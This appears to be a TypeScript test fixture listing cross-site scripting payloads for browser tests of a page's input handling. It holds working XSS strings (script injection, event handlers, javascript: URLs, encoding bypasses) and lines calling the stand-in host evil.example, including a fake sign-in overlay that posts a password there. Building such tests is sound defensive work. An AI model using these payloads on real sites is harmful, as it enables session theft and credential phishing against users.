// Hostile markup and text fed through every place where outside data reaches the page.
// Each payload that ran would set window.__xss, open a dialog, or request evil.example.
// New payloads go at the end: the browser tests pick some by index.
const FLAG = 'window.__xss=1';

export const XSS_PAYLOADS: readonly string[] = [
  `<script>${FLAG}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${FLAG}">`,
  `<img src="x" onerror=alert(1)>`,
  `<svg onload="${FLAG}"></svg>`,
  `<svg><script>${FLAG}</script></svg>`,
  `<svg><animate onbegin="${FLAG}" attributeName="x" dur="1s"/></svg>`,
  `<a href="javascript:${FLAG}">click</a>`,
  `<a href="JaVaScRiPt:alert(1)">click</a>`,
  `<a href="&#106;avascript:alert(1)">click</a>`,
  `<a href="java&#x09;script:alert(1)">click</a>`,
  `<iframe src="javascript:${FLAG}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<body onload="${FLAG}">`,
  `<div onmouseover="${FLAG}" style="position:fixed;inset:0">hover</div>`,
  `<input autofocus onfocus="${FLAG}">`,
  `<details open ontoggle="${FLAG}">`,
  `<video><source onerror="${FLAG}"></video>`,
  `<audio src=x onerror="${FLAG}"></audio>`,
  `<object data="javascript:${FLAG}"></object>`,
  `<embed src="javascript:${FLAG}">`,
  `<form action="javascript:${FLAG}"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${FLAG}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${FLAG}">`,
  `<noscript><p title="</noscript><img src=x onerror=${FLAG}>">`,
  `"><script>${FLAG}</script>`,
  `'><img src=x onerror=${FLAG}>`,
  `%3Cscript%3E${FLAG}%3C/script%3E`,
  `&lt;script&gt;${FLAG}&lt;/script&gt;`,
  `<scr<script>ipt>${FLAG}</scr</script>ipt>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  // No script, but a page-covering fake sign-in that posts to another site,
  // and links and images that look relative while leaving the site.
  `<div style="position:fixed;inset:0;z-index:9999;background:#fff"><form action="https://evil.example/collect"><label>Password <input type="password" name="p"></label><button>Sign in</button></form></div>`,
  `<a href="//evil.example/phish">protocol-relative</a>`,
  `<a href="\\\\evil.example/phish">backslashes</a>`,
  `<img src="//evil.example/pixel.gif" alt="">`,
  `<p style="background:url(https://evil.example/bg.png)">styled</p>`,
];

// Some payloads leave an element open (<noscript>, <style> inside <math>, <details>) that
// would swallow every payload after it. These end tags close whatever is still open, and
// are ignored where nothing is, so each payload reaches the page on its own terms.
const CLOSE_ANYTHING_OPEN =
  '</style></script></xmp></iframe></noembed></noframes></textarea></title></p>' +
  '</noscript></table></math></svg></details></video></audio></object></form></div>';

/** The separator's paragraph: one per gap, so a page can prove every payload reached it. */
export const XSS_SEPARATOR_TEXT = 'between';

/** Everything above at once, for fields that take HTML. */
export const XSS_HTML = XSS_PAYLOADS.join(`${CLOSE_ANYTHING_OPEN}\n<p>${XSS_SEPARATOR_TEXT}</p>\n`);
